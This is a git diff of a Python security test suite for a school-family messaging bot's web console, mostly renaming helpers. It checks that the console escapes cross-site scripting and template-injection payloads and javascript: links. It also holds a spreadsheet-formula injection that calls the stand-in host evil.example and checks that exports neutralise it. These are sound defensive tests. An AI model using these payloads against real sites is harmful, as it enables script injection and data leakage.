@@ -1,5 +1,8 @@
-"""Whatever somebody writes, wherever it is shown: it stays text.  Every inbound field, every roster cell, every field of
-every form of the console; then every page is read as a browser reads it."""
+"""Text that people write stays text wherever it is shown.
+
+Every inbound field, every roster cell, every field of every form of the console; then every page is parsed as a browser
+does.
+"""
 
 from collections import Counter
 from collections.abc import Callable
@@ -18,66 +21,78 @@ from bot.web.console.registration import issue_password
 from tests.announcements.conftest import District
 from tests.conftest import Family
 from tests.roster.conftest import Roster, roster
-from tests.security.pages import crawl, fill, kind_of, look
+from tests.security.pages import crawl, get_page, kind_of, submit_form
 from tests.web.console.conftest import announced, busy, district, gathered
 from tests.web.console.test_console import log_in
 from tests.web.console.test_login import cheap_passwords
 
-__all__ = ["announced", "busy", "cheap_passwords", "district", "gathered", "roster"]  # these fixtures hold here too
+__all__ = ["announced", "busy", "cheap_passwords", "district", "gathered", "roster"]  # these fixtures also apply here
 
 
-def payload(name: str) -> str:
+def build_payload(name: str) -> str:
     return f"mark {name} \"'><xss{name} onerror=alert(1)>{{{{7*7}}}}</textarea></script><!--"
 
 
 INBOUND: dict[str, dict[str, str]] = {
-    "body": {"Body": payload("body")},
-    "profile": {"ProfileName": payload("profile"), "Body": "hello"},
-    "button": {"MessageType": "button", "ButtonText": payload("button"), "Body": payload("buttonbody")},
-    "payload": {"MessageType": "interactive", "ButtonPayload": payload("payload"), "Body": "yes"},
-    "list": {"ListId": payload("list"), "ListTitle": payload("listtitle"), "Body": payload("listbody")},
+    "body": {"Body": build_payload("body")},
+    "profile": {"ProfileName": build_payload("profile"), "Body": "hello"},
+    "button": {"MessageType": "button", "ButtonText": build_payload("button"), "Body": build_payload("buttonbody")},
+    "payload": {"MessageType": "interactive", "ButtonPayload": build_payload("payload"), "Body": "yes"},
+    "list": {
+        "ListId": build_payload("list"),
+        "ListTitle": build_payload("listtitle"),
+        "Body": build_payload("listbody"),
+    },
     "location": {
         "MessageType": "location",
-        "Latitude": payload("lat"),
-        "Address": payload("adr"),
-        "Label": payload("lab"),
+        "Latitude": build_payload("lat"),
+        "Address": build_payload("adr"),
+        "Label": build_payload("lab"),
     },
-    "media": {"NumMedia": "1", "MediaContentType0": f"audio/{payload('type')}", "MediaUrl0": payload("url")},
-    "file": {"MessageType": "document", "Body": payload("file"), "MediaContentType0": "application/pdf"},
-    "reply": {"OriginalRepliedMessageSid": payload("reply"), "Body": payload("replied")},
-    "place": {"FromCity": payload("city"), "FromState": payload("state"), "Body": "hello"},
+    "media": {
+        "NumMedia": "1",
+        "MediaContentType0": f"audio/{build_payload('type')}",
+        "MediaUrl0": build_payload("url"),
+    },
+    "file": {"MessageType": "document", "Body": build_payload("file"), "MediaContentType0": "application/pdf"},
+    "reply": {"OriginalRepliedMessageSid": build_payload("reply"), "Body": build_payload("replied")},
+    "place": {"FromCity": build_payload("city"), "FromState": build_payload("state"), "Body": "hello"},
 }
-"""A message for each field of Twilio's form that a family, or somebody who plays one, can choose."""
-SHOWN = {"body", "buttonbody", "listbody", "replied"}
-"""These are read by staff: here the test would notice if it looked in vain."""
+"""A message for each field of Twilio's form that a family or an attacker can choose."""
+DISPLAYED_FIELDS = {"body", "buttonbody", "listbody", "replied"}
+"""Staff read these: they prove that the test looks in the right place."""
 
 
 @pytest.mark.long
 def test_every_inbound_field_stays_text(
-    services: Runtime, client: FlaskClient, busy: None, new_family: Callable[[str], Family], roster: Roster
+    runtime: Runtime, client: FlaskClient, busy: None, new_family: Callable[[str], Family], roster: Roster
 ) -> None:
-    family = new_family("whatsapp:+12175550177")  # a person talks with it: all it writes is shown
+    family = new_family("whatsapp:+12175550177")  # a person has taken over: everything the family writes is shown
     for name, fields in INBOUND.items():
         family.text(fields.get("Body", ""), **{key: value for key, value in fields.items() if key != "Body"})
         assert family.status == 200, name
-        stranger = new_family(f"whatsapp:US.{payload(name)}"[:120])
+        stranger = new_family(f"whatsapp:US.{build_payload(name)}"[:120])
         stranger.text("I want to talk to a person")
-        stranger.text(payload(f"stranger{name}"))
-    cells = ",".join('"' + payload(name).replace('"', '""') + '"' for name in ("school", "language", "role", "tags"))
-    roster.read(f"phone,school,language,role,tags\n217-555-0123,{cells}\n2175550124,lincoln,es,,{payload('tag')!r}\n")
-    assert log_in(client, "root", issue_password(services, "root", "administrator", "ana_ruiz")) == 302
+        stranger.text(build_payload(f"stranger{name}"))
+    cells = ",".join(
+        '"' + build_payload(name).replace('"', '""') + '"' for name in ("school", "language", "role", "tags")
+    )
+    roster.read(
+        f"phone,school,language,role,tags\n217-555-0123,{cells}\n2175550124,lincoln,es,,{build_payload('tag')!r}\n"
+    )
+    assert log_in(client, "root", issue_password(runtime, "root", "administrator", "ana_ruiz")) == 302
     pages = crawl(client, ["/console/", "/console/cases/1", "/console/cases/2", "/console/cases/3"])
     assert len(pages) > 40 and {page.path: page.dangers for page in pages if page.dangers} == {}
     words = "".join(page.words for page in pages)
-    assert {name for name in SHOWN if f"<xss{name} onerror=alert(1)>{{{{7*7}}}}" not in words} == set()
+    assert {name for name in DISPLAYED_FIELDS if f"<xss{name} onerror=alert(1)>{{{{7*7}}}}" not in words} == set()
 
 
 @pytest.mark.long
 def test_every_form_field_stays_text(
-    services: Runtime, client: FlaskClient, announced: District, gathered: None
+    runtime: Runtime, client: FlaskClient, announced: District, gathered: None
 ) -> None:
     client.application.config["WTF_CSRF_ENABLED"] = False
-    assert log_in_without_token(client, services) == 302
+    assert log_in_without_token(client, runtime) == 302
     for round_, link in enumerate(("javascript:alert(1)", 'https://example.org/"><xsslink>')):
         sent, kinds = 0, Counter[str]()
         for page in crawl(client, ["/console/"]):
@@ -86,20 +101,20 @@ def test_every_form_field_stays_text(
                 if kinds[kind_of(form.action)] > 4:
                     continue
                 name = f"{page.path}{number}{round_}".replace("/", "").replace("?", "").replace("=", "")
-                sent += fill(client, form, payload(name[-40:])[:280], link) in (200, 302, 303)
+                sent += submit_form(client, form, build_payload(name[-40:])[:280], link) in (200, 302, 303)
         assert sent > 20
     pages = crawl(client, ["/console/"])
-    with services.database.read() as db:
+    with runtime.database.read() as db:
         codes = [f"/m/{one}" for one in db.execute(select(announcements.announcements.c.code)).scalars()]
         codes += [f"/g/{one}" for one in db.execute(select(meetings.meetings.c.code)).scalars()]
-    public = [page for path in codes for page in (look(client, path), look(client, f"{path}/kit")) if page]
+    public = [page for path in codes for page in (get_page(client, path), get_page(client, f"{path}/kit")) if page]
     assert len(pages) > 40 and public
     assert {page.path: page.dangers for page in [*pages, *public] if page.dangers} == {}
     assert sum("<xss" in page.words for page in pages) > 5, "many pages show what was written"
 
 
-def log_in_without_token(client: FlaskClient, services: Runtime) -> int:
-    password = issue_password(services, "root", "administrator", "ana_ruiz")
+def log_in_without_token(client: FlaskClient, runtime: Runtime) -> int:
+    password = issue_password(runtime, "root", "administrator", "ana_ruiz")
     return client.post("/console/login", data={"name": "root", "password": password}).status_code
 
 
@@ -126,13 +141,13 @@ def test_only_csv_export_writes_csv() -> None:
 
 
 @pytest.mark.long
-def test_family_question_is_no_formula_in_export(services: Runtime, client: FlaskClient, gathered: None) -> None:
+def test_family_question_is_no_formula_in_export(runtime: Runtime, client: FlaskClient, gathered: None) -> None:
     from bot.base.database import now
     from bot.store.meetings import meeting_questions
 
-    with services.database.write() as db:
+    with runtime.database.write() as db:
         meeting_questions.add(db, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date())
-    assert log_in(client, "root", issue_password(services, "root", "administrator", "ana_ruiz")) == 302
+    assert log_in(client, "root", issue_password(runtime, "root", "administrator", "ana_ruiz")) == 302
     files = [client.get(f"/console/gatherings/1/{one}.csv").text for one in ("questions", "families")]
     files += [client.get(f"/console/{one}.csv").text for one in ("attendance", "agents/drilled")]
     assert "'=HYPERLINK" in files[0]
